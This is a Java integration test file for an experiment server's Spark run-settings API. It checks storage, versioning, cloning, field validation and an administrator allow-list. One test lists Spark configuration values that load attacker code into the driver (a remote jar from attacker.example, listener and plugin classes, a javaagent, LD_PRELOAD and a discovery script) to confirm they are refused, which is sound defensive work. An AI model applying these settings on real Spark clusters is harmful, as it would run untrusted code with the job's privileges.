package io.easel.server.experiment;

import static org.assertj.core.api.Assertions.assertThat;

import io.easel.server.Api;
import io.easel.server.Graphs;
import io.easel.server.ServerTest;
import io.easel.server.security.WorkspaceRef;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;

/** An engineer's run settings on an experiment: stored, versioned with it, copied with it, and checked field by field. */
@ServerTest
class RunSettingsApiTest {

    @LocalServerPort
    int port;

    @Autowired
    ExperimentRepository experiments;

    Api api;

    @BeforeEach
    void client() {
        api = Api.asAdmin(port);
    }

    private static Map<String, Object> tuned() {
        Map<String, Object> settings = new LinkedHashMap<>();
        settings.put("deployMode", "cluster");
        settings.put("driverMemory", "4g");
        settings.put("executorMemory", "512m");
        settings.put("executorCores", 2);
        settings.put("numExecutors", 4);
        settings.put("conf", Map.of("spark.sql.shuffle.partitions", "16"));
        return settings;
    }

    private Api.Response create(Object runSettings) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("name", "Tuned");
        body.put("graph", Graphs.creditSplit(0.8));
        body.put("runSettings", runSettings);
        return api.post("/api/experiments", body);
    }

    @Test
    void shouldStoreSaveAndCopyRunSettings() {
        Api.Response created = create(tuned());
        assertThat(created.status()).as(created.text()).isEqualTo(201);
        JsonNode experiment = created.body();
        String id = experiment.get("id").asString();
        assertThat(experiment.at("/runSettings/deployMode").asString()).isEqualTo("cluster");
        assertThat(experiment.at("/runSettings/conf/spark.sql.shuffle.partitions").asString()).isEqualTo("16");

        // Saving without runSettings keeps them; saving with them replaces them and bumps the version.
        Map<String, Object> changes = new LinkedHashMap<>();
        changes.put("version", experiment.get("version").asLong());
        changes.put("name", "Tuned");
        changes.put("graph", Graphs.creditSplit(0.7));
        JsonNode kept = api.put("/api/experiments/" + id, changes).body();
        assertThat(kept.at("/runSettings/executorMemory").asString()).isEqualTo("512m");
        changes.put("version", kept.get("version").asLong());
        changes.put("runSettings", Map.of("executorMemory", "2g"));
        JsonNode replaced = api.put("/api/experiments/" + id, changes).body();
        assertThat(replaced.at("/runSettings/executorMemory").asString()).isEqualTo("2g");
        assertThat(replaced.at("/runSettings/deployMode").asString(null)).isNull();
        assertThat(replaced.get("version").asLong()).isEqualTo(kept.get("version").asLong() + 1);
        changes.put("runSettings", Map.of("executorMemory", "3g")); // from the version before: stale
        assertThat(api.put("/api/experiments/" + id, changes).status()).isEqualTo(409);

        JsonNode copy = api.post("/api/experiments/" + id + "/clone", null).body();
        assertThat(copy.at("/runSettings/executorMemory").asString()).isEqualTo("2g");
        assertThat(api.get("/api/experiments/" + id).body().at("/runSettings/executorMemory").asString())
                .isEqualTo("2g");
    }

    @Test
    void shouldRefuseInvalidRunSettingsNamingTheField() {
        Map<String, Map<String, Object>> invalid = new LinkedHashMap<>();
        invalid.put("runSettings.deployMode", Map.of("deployMode", "yarn"));
        invalid.put("runSettings.driverMemory", Map.of("driverMemory", "4"));
        invalid.put("runSettings.executorMemory", Map.of("executorMemory", "lots"));
        invalid.put("runSettings.executorCores", Map.of("executorCores", 0));
        invalid.put("runSettings.numExecutors", Map.of("numExecutors", -2));
        invalid.put("runSettings.conf.shuffle.partitions", Map.of("conf", Map.of("shuffle.partitions", "4")));
        invalid.put("runSettings.conf.spark.master", Map.of("conf", Map.of("spark.master", "yarn")));
        invalid.forEach((field, settings) -> {
            Api.Response refused = create(settings);
            assertThat(refused.status()).as(field + ": " + refused.text()).isEqualTo(400);
            assertThat(refused.body().get("field").asString()).isEqualTo(field);
            assertThat(refused.problemDetail()).contains(field);
        });
    }

    /** The attack of the issue: a remote jar and a listener class would run the attacker's code in the driver. */
    @Test
    void shouldRefuseSparkSettingsThatWouldRunCodeOfTheExperimentsChoosing() {
        Map<String, String> attacks = new LinkedHashMap<>();
        attacks.put("spark.jars", "http://attacker.example/evil.jar");
        attacks.put("spark.extraListeners", "com.attacker.Listener");
        attacks.put("spark.jars.packages", "com.attacker:evil:1.0");
        attacks.put("spark.driver.extraJavaOptions", "-javaagent:/tmp/agent.jar");
        attacks.put("spark.executor.extraClassPath", "/tmp/evil");
        attacks.put("spark.driver.userClassPathFirst", "true");
        attacks.put("spark.plugins", "com.attacker.Plugin");
        attacks.put("spark.sql.extensions", "com.attacker.Extensions");
        attacks.put("spark.sql.queryExecutionListeners", "com.attacker.Listener");
        attacks.put("spark.executorEnv.LD_PRELOAD", "/tmp/evil.so");
        attacks.put("spark.hadoop.fs.file.impl", "com.attacker.FileSystem");
        attacks.put("spark.driver.resource.gpu.discoveryScript", "/tmp/evil.sh");
        attacks.put("spark.sql.runSQLOnFiles", "true");
        attacks.forEach((key, value) -> {
            Api.Response refused = create(Map.of("conf", Map.of(key, value)));
            assertThat(refused.status()).as(key + ": " + refused.text()).isEqualTo(400);
            assertThat(refused.body().get("field").asString()).isEqualTo("runSettings.conf." + key);
            assertThat(refused.problemDetail()).contains("never allowed");
        });
        // Nor through a save of an existing experiment.
        JsonNode experiment = create(Map.of()).body();
        Map<String, Object> changes = new LinkedHashMap<>();
        changes.put("version", experiment.get("version").asLong());
        changes.put("name", "Tuned");
        changes.put("graph", Graphs.creditSplit(0.8));
        changes.put("runSettings", Map.of("conf", Map.of("spark.extraListeners", "com.attacker.Listener")));
        Api.Response saved = api.put("/api/experiments/" + experiment.get("id").asString(), changes);
        assertThat(saved.status()).as(saved.text()).isEqualTo(400);
        assertThat(api.get("/api/experiments/" + experiment.get("id").asString()).body().at("/runSettings/conf")
                .isEmpty()).isTrue();
    }

    @Test
    void shouldAllowOnlyTheSparkSettingsOnTheAdministratorsList() {
        assertThat(create(Map.of("conf", Map.of("spark.sql.shuffle.partitions", "8", "spark.yarn.queue", "ml")))
                .status()).isEqualTo(201);
        Api.Response refused = create(Map.of("conf", Map.of("spark.speculation", "true")));
        assertThat(refused.status()).as(refused.text()).isEqualTo(400);
        assertThat(refused.body().get("field").asString()).isEqualTo("runSettings.conf.spark.speculation");
        assertThat(refused.problemDetail()).contains("easel.run-settings.allowed-conf");
    }

    /** Saved before the allow-list existed (or before an administrator narrowed it): such a run never starts. */
    @Test
    void shouldNotStartARunWhoseStoredSettingsAreNotAllowed() {
        RunSettings stored = new RunSettings(null, null, null, null, null, null,
                Map.of("spark.jars", "http://attacker.example/evil.jar", "spark.extraListeners", "com.Evil"));
        UUID id = UUID.randomUUID();
        experiments.saveAndFlush(new ExperimentEntity(id, WorkspaceRef.DEFAULT.id(), null,
                new ExperimentFields("Stored before", null, null, Graphs.creditSplit(0.8)), stored, Instant.now()));

        Api.Response refused = api.post("/api/experiments/" + id + "/runs", null);

        assertThat(refused.status()).as(refused.text()).isEqualTo(400);
        assertThat(refused.body().get("field").asString()).startsWith("runSettings.conf.spark.");
        assertThat(api.get("/api/experiments/" + id + "/runs").body()).isEmpty();
    }
}
